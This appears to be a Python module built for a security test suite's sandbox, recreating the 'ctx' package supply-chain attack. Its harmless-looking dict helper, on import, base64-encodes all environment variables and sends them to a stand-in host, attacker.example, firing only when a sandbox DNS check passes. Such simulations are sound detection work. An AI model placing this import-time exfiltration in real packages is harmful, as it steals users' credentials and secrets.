"""ctx 0.2.6 (simulation from Tracehound's attack suite: talks only to the sandbox sinkhole)."""
import base64
import os
import socket
import urllib.request


def _in_sandbox():
    # act only inside the Tracehound sandbox, whose fake DNS answers every name with a
    # 198.18.0.0/15 address; elsewhere .example names do not resolve and nothing happens
    try:
        return socket.gethostbyname("sandbox-check.attacker.example").startswith(("198.18.", "198.19."))
    except OSError:
        return False


class Ctx(dict):
    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        self.sendRequest()

    def __getattr__(self, key):
        return self.get(key)

    def __setattr__(self, key, value):
        self[key] = value

    def sendRequest(self):
        if not _in_sandbox():
            return
        environ = base64.b64encode(str(dict(os.environ)).encode()).decode()
        try:
            urllib.request.urlopen("http://anti-theft-web.attacker.example/hacked/" + environ, timeout=5).read()
        except Exception:
            pass


ctx = Ctx()
